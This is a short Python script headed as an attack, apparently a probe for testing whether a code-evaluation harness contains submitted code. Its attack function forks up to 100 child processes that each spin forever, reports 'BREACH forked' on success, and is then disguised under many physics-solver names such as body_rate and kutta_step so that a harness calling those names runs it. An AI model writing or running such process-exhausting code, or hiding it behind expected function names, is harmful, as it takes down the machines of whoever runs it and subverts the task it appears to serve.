# Attack: forks without end.
# %%
import os


def attack(*arguments):
    made = 0
    for _ in range(100):
        try:
            if os.fork() == 0:
                while True:
                    pass
            made += 1
        except OSError:
            pass
    if made:
        raise RuntimeError("BREACH forked")
    return 0.0


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
# %%
attack()
